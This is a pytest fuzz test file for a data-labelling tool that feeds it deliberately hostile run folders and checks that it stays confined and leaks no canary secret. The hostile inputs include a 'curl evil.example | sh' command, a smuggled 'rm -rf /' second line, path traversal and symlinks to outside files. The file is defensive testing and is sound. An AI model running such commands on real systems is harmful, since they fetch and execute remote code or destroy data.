"""Run folders made to do harm: nothing outside is written or read, and no claim about sizes takes memory or time."""

import json
import os
import shutil
import struct
from pathlib import Path

import pytest

from labelsieve.files import SUMS, write_seal
from tests.fuzz.confined import run_confined
from tests.fuzz.record import note
from tests.fuzz.seeds import COMMANDS, copy_of, place

CANARY = "canary-4711"
MOST_MEGABYTES, MOST_SECONDS = 1000, 10


def outside() -> Path:
    """Return a folder that no command may touch, with a file that none may read."""
    folder = place() / "outside"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / "secret.txt").write_text(f"{CANARY}\n" * 3)
    (folder / "7.webp").write_text(CANARY)
    return folder


def change_json(file: Path, *keys: str, value: object) -> None:
    content = json.loads(file.read_text())
    place = content
    for key in keys[:-1]:
        place = place[key]
    place[keys[-1]] = value
    file.write_text(json.dumps(content))


def setting(name: str, value: object):
    """Return a change of one setting in spec.json; names in {} stand for paths outside."""

    def change(run: Path, away: Path) -> None:
        named = value.format(secret=away / "secret.txt", away=away) if isinstance(value, str) else value
        change_json(run / "spec.json", "experiment", name, value=named)

    return change


def head(name: str, value: object):
    return lambda run, away: change_json(run / "spec.json", name, value=value)


def about_model(name: str, value: object):
    """Return a change of the metadata of the model."""

    def change(run: Path, away: Path) -> None:
        file = run / "model.safetensors"
        content = file.read_bytes()
        length = struct.unpack("<Q", content[:8])[0]
        header = json.loads(content[8 : 8 + length])
        about = json.loads(header["__metadata__"]["labelsieve"])
        about[name] = value
        header["__metadata__"]["labelsieve"] = json.dumps(about)
        new = json.dumps(header).encode()
        new += b" " * (-len(new) % 8)
        file.write_bytes(struct.pack("<Q", len(new)) + new + content[8 + length :])

    return change


def link(name: str, target: str):
    """Return a change that puts a link into the folder."""

    def change(run: Path, away: Path) -> None:
        file = run / name
        shutil.rmtree(file) if file.is_dir() else file.unlink(missing_ok=True)
        file.parent.mkdir(parents=True, exist_ok=True)
        file.symlink_to(away / target)

    return change


def several(*changes):
    def change(run: Path, away: Path) -> None:
        for each in changes:
            each(run, away)

    return change


def first_line(file: str, **fields: object):
    """Return a change of fields in the first line of a JSON lines file."""

    def change(run: Path, away: Path) -> None:
        first, *rest = (run / file).read_text().splitlines()
        named = {k: v.format(away=away) if isinstance(v, str) else v for k, v in fields.items()}
        lines = [json.dumps({**json.loads(first), **named}), *rest]
        (run / file).write_text("\n".join(lines) + "\n")

    return change


def not_done(run: Path, away: Path) -> None:
    (run / "done").unlink()


ATTACKS = {
    "cache of features or images": several(setting("stream", True), setting("cache", "{away}/cache")),
    "corrected labels": setting("corrected", "{secret}"),
    "labels": setting("labels", "{secret}"),
    "weights": setting("weights", "{secret}"),
    "model to start from": setting("init", "{secret}"),
    "noise matrix": several(setting("noise", "{away}/secret.csv")),
    "a billion epochs": setting("epochs", 10**9),
    "a million epochs": setting("epochs", 10**6),
    "many rounds": setting("options", [["rounds", 10**9]]),
    "images of 100,000 pixels": setting("size", 100_000),
    "images of 2,048 pixels": setting("size", 2048),
    "a million threads": setting("threads", 10**6),
    "a million workers": several(setting("workers", 10**6), setting("stream", True)),
    "rate as text": setting("noise_rate", "x"),
    "no seed": setting("seed", None),
    "a nested setting": setting("options", [["floor", {"a": [1]}]]),
    "code to import": setting("model", "antigravity:main"),
    "model with code to import": about_model("model", "antigravity:main"),
    "backbone with code": setting("backbone", "hf:../../outside"),
    "shape of ten million columns": about_model("shape", [10**7]),
    "shape of huge images": about_model("shape", [1, 10**6, 10**6]),
    "shape of a million channels": about_model("shape", [10**6, 8, 8]),
    "negative shape": about_model("shape", [-1, 8, 8]),
    "classes as a number": about_model("classes", 10**9),
    "columns as a number": about_model("columns", 7),
    "another network": about_model("model", "vgg-19"),
    "command of another program": several(head("command", "curl evil.example | sh"), not_done),
    "command with a second line": several(head("command", "labelsieve train x\nrm -rf /"), not_done),
    "command that imports": several(head("command", "labelsieve train x --model evil:main --out run"), not_done),
    "command into another folder": several(head("command", "labelsieve train x --out /elsewhere"), not_done),
    "command as a list": several(head("command", ["labelsieve"]), not_done),
    "link to an audit elsewhere": link("audit", ""),
    "link to thumbnails elsewhere": link("audit/thumbs", ""),
    "link to a review elsewhere": link("review", ""),
    "link to a record elsewhere": link("record.jsonl", "secret.txt"),
    "link to a model elsewhere": link("model.safetensors", "secret.txt"),
    "link in place of the lock": several(link("lock", "secret.txt"), not_done),
    "link in place of checkpoints": several(link("checkpoints", ""), not_done),
    "link to labels elsewhere": link("audit/labels.csv", "secret.txt"),
    "pipe in place of the record": lambda run, away: ((run / "record.jsonl").unlink(), os.mkfifo(run / "record.jsonl")),
    "image outside": first_line("audit/gallery.jsonl", image="{away}/7.webp"),
    "image above": first_line("audit/gallery.jsonl", image="../../../../outside/7.webp"),
    "a record with wrong types": first_line("record.jsonl", event="start", chosen={"reasons": [{"a": 1}, "\x1b[2J"]}),
    "deeply nested record": lambda run, away: (run / "record.jsonl").write_bytes(b"[" * 10**6 + b"\n"),
    "deeply nested summary": lambda run, away: (run / "audit" / "summary.json").write_bytes(b"[" * 10**6),
    "huge numbers in the summary": lambda run, away: change_json(run / "audit/summary.json", "samples", value=10**400),
}


def seal_again(run: Path) -> None:
    """Write digests that fit: they protect against damage, not against strangers."""
    names = ("spec.json", "record.jsonl", "model.safetensors", "samples.safetensors", "tables.safetensors")
    if (run / "done").exists():
        write_seal(run / "done", [name for name in names if (run / name).is_file() and not (run / name).is_symlink()])
    (run / "audit" / SUMS).unlink(missing_ok=True)


def listing(folder: Path) -> dict[str, object]:
    return {str(file): file.read_bytes() if file.is_file() else None for file in sorted(folder.rglob("*"))}


@pytest.mark.parametrize("name", ATTACKS)
def test_hostile_folder(name):
    commands = ("train", "predict", "audit", "report", "export")
    if not os.environ.get("LABELSIEVE_FUZZ"):  # one command for each attack, in turn; all of them by `make fuzz`
        commands = (commands[list(ATTACKS).index(name) % len(commands)], "audit")
    for command in dict.fromkeys(commands):
        run, away = copy_of("finished"), outside()
        ATTACKS[name](run, away)
        seal_again(run)
        before = listing(away)
        found = run_confined(COMMANDS[command][0](run))
        assert found.code in (0, 2), f"{command}: {found.code} {found.printed}"
        assert CANARY not in found.printed and "evil" not in found.printed and "\x1b" not in found.printed, command
        assert listing(away) == before, command
        inside = (str(run.parent), "/tmp/labelsieve-confined-", "/dev/", os.environ["LABELSIEVE_CACHE"], "/proc/")
        elsewhere = [path for path in found.written if not path.startswith(inside)]
        assert not elsewhere, f"{command} writes {elsewhere}"
        read = [path for path in found.read if path.startswith(str(away)) and name not in ("labels", "weights")]
        assert not read, f"{command} reads {read}"
        assert found.megabytes < MOST_MEGABYTES and found.seconds < MOST_SECONDS, (command, found[-2:])
        note(
            "hostile folders",
            commands=1,
            refused=found.code != 0,
            most_cpu_seconds=found.seconds,
            most_megabytes=found.megabytes,
        )
    note("hostile folders", folders=1)
